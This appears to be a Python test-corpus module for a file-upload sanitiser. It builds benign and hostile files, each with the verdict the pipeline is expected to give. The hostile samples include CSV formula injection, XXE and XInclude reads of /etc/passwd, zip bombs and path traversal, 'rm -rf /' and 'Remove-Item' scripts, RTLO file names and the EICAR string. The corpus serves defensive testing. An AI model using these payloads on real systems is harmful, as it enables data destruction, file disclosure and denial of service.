"""Corpus cases for text, CSV, JSON, XML, ZIP, type identification, polyglots, refused types,
file names and signatures. Everything is built here from the standard library and Pillow.

Names and the position of hostile payloads come from the seed, so a pipeline cannot key its
answers on names or hashes.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.corpus import cfb
from tests.corpus.case import Case

_EICAR_HEX = (
    "58354f2150254041505b345c505a58353428505e2937434329377d2445494341522d5354414e4441"
    "52442d414e544956495255532d544553542d46494c452124482b482a"
)
EICAR = bytes.fromhex(_EICAR_HEX)
SCHEMA = (
    Path(__file__).resolve().parents[2]
    / "ferry"
    / "schemas"
    / "messages"
    / "citizen-application.schema.json"
)
ALL_TYPES = [
    "pdf", "png", "jpeg", "gif", "bmp", "tiff", "docx", "xlsx", "pptx", "docm", "xlsm", "pptm",
    "ofd", "zip", "txt", "csv", "json", "xml",
]  # fmt: skip
CHINESE = "关于2024年度预算执行情况的报告\n第一部分：总体情况。\n"
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


# ----------------------------------------------------------------------------- checks
def _text(data: bytes) -> str:
    for bom, codec in (
        (b"\xef\xbb\xbf", "utf-8"),
        (b"\xff\xfe", "utf-16-le"),
        (b"\xfe\xff", "utf-16-be"),
    ):
        if data.startswith(bom):
            return data[len(bom) :].decode(codec)
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError:
        return data.decode("gb18030")


def same_text(original: bytes, delivered: bytes) -> None:
    assert delivered.decode("utf-8-sig") == _text(original), "text changed"


def same_bytes(original: bytes, delivered: bytes) -> None:
    assert delivered == original, "content changed"


def no_controls(original: bytes, delivered: bytes) -> None:
    text = delivered.decode("utf-8")
    bad = [c for c in text if (ord(c) < 32 and c not in "\t\r\n\f") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, f"control characters left: {bad[:3]}"
    kept = "".join(c for c in _text(original) if c.isprintable() or c in "\t\r\n\f")
    assert text == kept, "printable text changed"


def _cells(data: bytes) -> list[list[str]]:
    import csv  # noqa: PLC0415

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_neutralised(original: bytes, delivered: bytes) -> None:
    import re  # noqa: PLC0415

    number = re.compile(r"[+-]?(\d{1,3}(,\d{3})+|\d+)?(\.\d+)?([eE][+-]?\d+)?%?")
    before, after = _cells(original), _cells(delivered)
    assert len(before) == len(after), "rows changed"
    for row_b, row_a in zip(before, after, strict=True):
        for b, a in zip(row_b, row_a, strict=True):
            if b and b[0] in TRIGGERS and not (number.fullmatch(b) and any(c.isdigit() for c in b)):
                assert a == "'" + b, f"formula cell not neutralised: {a!r}"
            else:
                assert a == b, f"cell changed: {b!r} -> {a!r}"


def same_json(original: bytes, delivered: bytes) -> None:
    assert json.loads(delivered) == json.loads(_text(original)), "JSON value changed"


def same_xml(original: bytes, delivered: bytes) -> None:
    from lxml import etree  # noqa: PLC0415

    def c14n(data: bytes) -> bytes:
        parser = etree.XMLParser(resolve_entities=False, no_network=True)
        return etree.tostring(etree.fromstring(data, parser), method="c14n", with_comments=True)

    assert c14n(delivered) == c14n(original), "XML content changed"


def no_xml_links(original: bytes, delivered: bytes) -> None:
    from lxml import etree  # noqa: PLC0415

    root = etree.fromstring(delivered, etree.XMLParser(resolve_entities=False, no_network=True))
    tags = [e.tag for e in root.iter() if isinstance(e.tag, str)]
    assert not [t for t in tags if "XInclude" in t], "XInclude left"
    assert b"xml-stylesheet" not in delivered, "stylesheet instruction left"
    assert b"quarterly figures" in delivered, "text lost"


def same_members(original: bytes, delivered: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(original)) as a, zipfile.ZipFile(io.BytesIO(delivered)) as b:
        want = {i.filename: a.read(i) for i in a.infolist() if not i.is_dir()}
        got = {i.filename: b.read(i) for i in b.infolist()}
    assert want.keys() == got.keys(), f"members changed: {sorted(want)} -> {sorted(got)}"
    for name, data in want.items():
        if name.endswith(".json"):
            assert json.loads(got[name]) == json.loads(data)
        else:
            assert got[name] == data, f"member {name} changed"


# ----------------------------------------------------------------------------- builders
def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, (2024, 5, 6, 7, 8, 10)), data, compress_type=method)
    return out.getvalue()


def _cd_offset(data: bytes) -> int:
    eocd = data.rfind(b"PK\x05\x06")
    return int(struct.unpack_from("<L", data, eocd + 16)[0])


def _patch_all(data: bytes, local_at: int, central_at: int, fmt: str, value: int) -> bytes:
    """Patch a field in every local header (offset local_at) and central record."""
    buf = bytearray(data)
    pos = 0
    while (pos := buf.find(b"PK\x03\x04", pos)) >= 0:
        struct.pack_into(fmt, buf, pos + local_at, value)
        pos += 4
    pos = _cd_offset(data)
    while (pos := buf.find(b"PK\x01\x02", pos)) >= 0:
        struct.pack_into(fmt, buf, pos + central_at, value)
        pos += 4
    return bytes(buf)


def encrypted_zip() -> bytes:
    data = _zip([("minutes.txt", b"meeting minutes\n" * 20)])
    flags = struct.unpack_from("<H", data, 6)[0] | 1
    return _patch_all(data, 6, 8, "<H", flags)


def lying_zip() -> bytes:
    data = _zip([("data.txt", b"\0" * (2 * 1024 * 1024))])
    return _patch_all(data, 22, 24, "<L", 1000)


def overlap_zip() -> bytes:
    """Three central records sharing one local header (a "better zip bomb")."""
    single = _zip([("block.txt", b"A" * (512 * 1024))])
    cd = _cd_offset(single)
    eocd = single.rfind(b"PK\x05\x06")
    record = single[cd:eocd]
    body = single[:cd] + record * 3
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 3, 3, len(record) * 3, cd, 0)
    return body + end


def symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("readme.txt", "see link\n")
        info = zipfile.ZipInfo("link.txt")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/etc/passwd")
    return out.getvalue()


def png(seed: int, size: tuple[int, int] = (24, 16)) -> bytes:
    from PIL import Image  # noqa: PLC0415

    rng = random.Random(seed)
    im = Image.new("RGB", size)
    im.putdata(
        [
            (rng.randrange(256), rng.randrange(256), rng.randrange(256))
            for _ in range(size[0] * size[1])
        ]
    )
    out = io.BytesIO()
    im.save(out, "PNG")
    return out.getvalue()


def minimal_pdf(text: str = "Hello") -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    ]
    stream = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode()
    objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def pe_stub() -> bytes:
    body = bytearray(512)
    body[0:2] = b"MZ"
    struct.pack_into("<L", body, 0x3C, 0x80)
    body[0x80:0x84] = b"PE\0\0"
    return bytes(body)


def elf_stub() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(57) + bytes(64)


def _deep_json(levels: int) -> bytes:
    return b"[" * levels + b"1" + b"]" * levels


def _schema_example() -> dict[str, object]:
    doc = json.loads(SCHEMA.read_text("utf-8"))
    example: dict[str, object] = doc["examples"][0]
    return example


# ----------------------------------------------------------------------------- cases
def cases(seed: int) -> list[Case]:
    rng = random.Random(seed)

    def nm(stem: str, ext: str) -> str:
        return f"{stem}-{rng.randrange(1000, 9999)}.{ext}" if ext else f"{stem}-{rng.randrange(99)}"

    def at(text: bytes, payload: bytes) -> bytes:
        """``payload`` inserted at a random line boundary of ``text``."""
        lines = text.split(b"\n")
        i = rng.randrange(len(lines) + 1)
        return b"\n".join([*lines[:i], payload, *lines[i:]])

    schema_policy = {"types": ALL_TYPES, "schemas": ["citizen-application"]}
    prose = ("Quarterly report\nRevenue rose 12.5% over the year.\n" + CHINESE) * 3
    out: list[Case] = []

    def add(
        name: str,
        data: bytes,
        expect: str,
        klass: str,
        check: Callable[[bytes, bytes], None] | None = None,
        policy: dict[str, object] | None = None,
    ) -> None:
        out.append(Case(name, data, expect, check, klass, policy))

    # --- text
    add(nm("report", "txt"), prose.encode("utf-8"), "deliver", "txt.utf8", same_text)
    add(nm("通知", "txt"), prose.encode("gb18030"), "deliver", "txt.gb18030", same_text)
    add(
        nm("notes", "txt"),
        b"\xff\xfe" + prose.encode("utf-16-le"),
        "deliver",
        "txt.utf16",
        same_text,
    )
    add(nm("readme", "md"), b"\xef\xbb\xbf" + prose.encode(), "deliver", "txt.bom", same_text)
    add(
        nm("log", "txt"),
        at(prose.encode(), b"\x1b[2J\x1b]0;pwned\x07 terminal tricks\x08"),
        "clean",
        "txt.control_chars",
        no_controls,
    )
    add(nm("dump", "txt"), b"abc\x00\x01\x02\x03" * 50, "reject:TYPE_NOT_ALLOWED", "txt.binary")

    # --- CSV
    numbers = 'id,amount,delta,ratio,name\n1,-12.5,+3,1e5,张三\n2,"-1,234.50",-7%,0.25,李四\n'
    add(nm("budget", "csv"), numbers.encode(), "deliver", "csv.benign", same_bytes)
    add(nm("预算", "csv"), numbers.encode("gb18030"), "deliver", "csv.gb18030", same_text)
    formulas = (
        "id,cell,amount\n1,=cmd|' /C calc'!A0,-12.5\n2,\"@SUM(1+1)*cmd|' /C calc'!A0\",3\n"
        "3,+HYPERLINK(\"http://x.example/?\"&A1),-4\n4,-2+3+cmd|' /C calc'!A0,+8\n"
        '5,"\tleading tab",7\n6,\uff1dcmd,9\n'
    )
    add(nm("contacts", "csv"), formulas.encode(), "clean", "csv.formula", csv_neutralised)
    add(nm("broken", "csv"), b'a,b\n1,"unterminated\n', "reject:MALFORMED", "csv.malformed")

    # --- JSON
    benign = {"title": "申请", "amounts": [-12.5, 3, 1e5], "nested": {"ok": True, "n": None}}
    add(
        nm("data", "json"),
        json.dumps(benign, ensure_ascii=False, indent=2).encode(),
        "deliver",
        "json.benign",
        same_json,
    )
    add(
        nm("dup", "json"),
        b'{"amount": 1, "amount": 1000000}',
        "reject:MALFORMED",
        "json.duplicate_keys",
    )
    add(nm("nan", "json"), b'{"amount": NaN}', "reject:MALFORMED", "json.nan")
    add(
        nm("deep", "json"),
        _deep_json(rng.randrange(100, 5000)),
        "reject:LIMIT_EXCEEDED",
        "json.deep",
    )
    example = _schema_example()
    add(
        nm("application", "json"),
        json.dumps(example, ensure_ascii=False).encode(),
        "deliver",
        "json.schema_valid",
        same_json,
        schema_policy,
    )
    invalid = dict(example)
    invalid.pop("applicant", None)
    invalid["unexpected"] = 1
    add(
        nm("application", "json"),
        json.dumps(invalid, ensure_ascii=False).encode(),
        "reject:SCHEMA_INVALID",
        "json.schema_invalid",
        None,
        schema_policy,
    )
    import base64  # noqa: PLC0415

    blob = base64.b64encode(b"attachment: " + EICAR + b" end" * rng.randrange(10, 30)).decode()
    add(
        nm("upload", "json"),
        json.dumps({"file": blob}).encode(),
        "reject:MALWARE_SIGNATURE",
        "json.base64_eicar",
    )

    # --- XML
    xml_gb = (
        '<?xml version="1.0" encoding="GB2312"?>\n<!-- 年报 -->\n'
        '<report year="2024"><title>预算执行情况</title><amount>-12.5</amount>'
        "<note><![CDATA[a < b & c]]></note></report>\n"
    ).encode("gb2312")
    add(nm("report", "xml"), xml_gb, "deliver", "xml.benign", same_xml)
    add(
        nm("dtd", "xml"),
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ELEMENT r (#PCDATA)>]>\n<r>x</r>',
        "reject:XML_DTD_FORBIDDEN",
        "xml.dtd",
    )
    add(
        nm("xxe", "xml"),
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>',
        "reject:XML_DTD_FORBIDDEN",
        "xml.xxe",
    )
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    add(
        nm("laughs", "xml"),
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]><r>&l9;</r>'.encode(),
        "reject:XML_DTD_FORBIDDEN",
        "xml.billion_laughs",
    )
    add(
        nm("linked", "xml"),
        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?>'
        b'\n<doc xmlns:xi="http://www.w3.org/2001/XInclude"><p>quarterly figures</p>'
        b'<xi:include href="file:///etc/passwd" parse="text"/></doc>',
        "clean",
        "xml.external",
        no_xml_links,
    )

    # --- ZIP
    benign_zip = _zip(
        [
            ("docs/readme.txt", prose.encode()),
            ("docs/data/budget.csv", numbers.encode()),
            ("info.json", b'{"a":1,"b":[1,2]}'),
        ]
    )
    add(nm("bundle", "zip"), benign_zip, "deliver", "zip.benign", same_members)
    add(
        nm("bomb", "zip"),
        _zip([("zeros.txt", b"\0" * (rng.randrange(20, 40) << 20))]),
        "reject:ARCHIVE_BOMB",
        "zip.ratio_bomb",
    )
    add(nm("lying", "zip"), lying_zip(), "reject:ARCHIVE_BOMB", "zip.lying_sizes")
    add(nm("overlap", "zip"), overlap_zip(), "reject:ARCHIVE_BOMB", "zip.overlap")
    add(
        nm("slip", "zip"),
        _zip([("ok.txt", b"fine\n"), ("../../../../tmp/evil.txt", b"x\n")]),
        "reject:ARCHIVE_TRAVERSAL",
        "zip.traversal",
    )
    add(
        nm("abs", "zip"),
        _zip([("/etc/cron.d/evil", b"* * * * * root sh\n")]),
        "reject:ARCHIVE_TRAVERSAL",
        "zip.absolute",
    )
    add(nm("link", "zip"), symlink_zip(), "reject:ARCHIVE_TRAVERSAL", "zip.symlink")
    add(nm("secret", "zip"), encrypted_zip(), "reject:ENCRYPTED", "zip.encrypted")
    inner = _zip([("deep.txt", b"deep\n")])
    for _ in range(2):
        inner = _zip([(f"level-{rng.randrange(9)}.zip", inner)])
    add(nm("nested", "zip"), inner, "reject:ARCHIVE_DEPTH", "zip.depth")
    add(
        nm("nested-ok", "zip"),
        _zip([("inner.zip", _zip([("a.txt", b"a\n")]))]),
        "deliver",
        "zip.nested_benign",
    )
    add(
        nm("many", "zip"),
        _zip([(f"f{i}.txt", b"x") for i in range(1001)], zipfile.ZIP_STORED),
        "reject:LIMIT_EXCEEDED",
        "zip.entries",
    )
    add(
        nm("mail", "zip"),
        _zip([("ok.txt", b"ok\n"), ("virus.txt", at(prose.encode(), EICAR))]),
        "reject:MALWARE_SIGNATURE",
        "zip.eicar_member",
    )
    add(
        nm("tools", "zip"),
        _zip([("setup.exe", pe_stub())]),
        "reject:TYPE_NOT_ALLOWED",
        "zip.exe_member",
    )

    # --- polyglots, mismatches, refused types
    add(
        nm("photo", "png"),
        png(seed) + _zip([("payload.txt", b"hidden\n")]),
        "reject:POLYGLOT",
        "polyglot.png_zip",
    )
    add(
        nm("scan", "pdf"),
        minimal_pdf() + _zip([("payload.js", b"alert(1)\n")]),
        "reject:POLYGLOT",
        "polyglot.pdf_zip",
    )
    add(nm("invoice", "pdf"), png(seed + 1), "reject:TYPE_MISMATCH", "mismatch.png_as_pdf")
    add(nm("table", "csv"), pe_stub(), "reject:TYPE_MISMATCH", "mismatch.exe_as_csv")
    add(nm("setup", "exe"), pe_stub(), "reject:TYPE_NOT_ALLOWED", "exe.pe")
    add(nm("daemon", ""), elf_stub(), "reject:TYPE_NOT_ALLOWED", "exe.elf")
    add(
        nm("cleanup", "ps1"),
        b"Remove-Item -Recurse C:\\\n",
        "reject:TYPE_NOT_ALLOWED",
        "script.ps1",
    )
    add(nm("install", "sh"), b"#!/bin/sh\nrm -rf /\n", "reject:TYPE_NOT_ALLOWED", "script.sh")
    add(
        nm("macro", "vbs"),
        b'CreateObject("WScript.Shell").Run "calc"\n',
        "reject:TYPE_NOT_ALLOWED",
        "script.vbs",
    )
    add(
        nm("notes", "txt"),
        b"#!/usr/bin/python3\nimport os\nos.system('id')\n",
        "reject:TYPE_MISMATCH",
        "script.as_txt",
    )
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    add(nm("page", "html"), html, "reject:TYPE_NOT_ALLOWED", "html.page")
    add(nm("page", "txt"), html, "reject:TYPE_MISMATCH", "html.as_txt")
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(1)</script></svg>"
    )
    add(nm("logo", "svg"), svg, "reject:TYPE_NOT_ALLOWED", "svg.script")
    add(nm("logo", "xml"), svg, "reject:TYPE_MISMATCH", "svg.as_xml")
    add(
        nm("letter", "rtf"),
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}",
        "reject:TYPE_NOT_ALLOWED",
        "rtf.object",
    )
    legacy = cfb.build([("WordDocument", b"\xec\xa5" + bytes(rng.randrange(100, 4000)))])
    add(nm("minutes", "doc"), legacy, "reject:TYPE_NOT_ALLOWED", "ole.doc")
    locked = cfb.build([("EncryptionInfo", b"\x04\x00\x04\x00"), ("EncryptedPackage", b"x")])
    add(nm("locked", "docx"), locked, "reject:ENCRYPTED", "ooxml.encrypted")
    add(
        nm("archive", "gz"),
        gzip.compress(prose.encode(), mtime=0),
        "reject:TYPE_NOT_ALLOWED",
        "archive.gzip",
    )

    # --- file names
    add(
        f"invoice\u202e{rng.choice(['fdp', 'gpj'])}.exe",
        pe_stub(),
        "reject:FILENAME_POLICY",
        "name.rtlo",
    )
    add("invoice\u202egnp.txt", b"plain text\n", "reject:FILENAME_POLICY", "name.rtlo_text")
    add(
        rng.choice(["CON", "aux", "Nul", "COM1", "lpt9"]) + ".txt",
        b"text\n",
        "reject:FILENAME_POLICY",
        "name.reserved",
    )
    add(nm("invoice", "pdf") + ".exe", pe_stub(), "reject:FILENAME_POLICY", "name.double_ext")
    add(
        nm("photo", "jpg") + " .js",
        b"alert(1)\n",
        "reject:FILENAME_POLICY",
        "name.double_ext_space",
    )
    add(f"report\x07{rng.randrange(9)}.txt", b"text\n", "reject:FILENAME_POLICY", "name.control")
    add(
        "a" * rng.randrange(252, 400) + ".txt", b"text\n", "reject:FILENAME_POLICY", "name.too_long"
    )
    add(nm("budget.v2", "txt"), b"version two\n", "deliver", "name.inner_dot", same_bytes)

    # --- signatures
    add(nm("eicar", "txt"), EICAR, "reject:MALWARE_SIGNATURE", "eicar.plain")
    add(nm("memo", "txt"), at(prose.encode(), EICAR), "reject:MALWARE_SIGNATURE", "eicar.embedded")
    add(
        nm("memo", "txt"),
        b"\xff\xfe" + at(prose.encode(), EICAR).decode().encode("utf-16-le"),
        "reject:MALWARE_SIGNATURE",
        "eicar.utf16",
    )
    return out
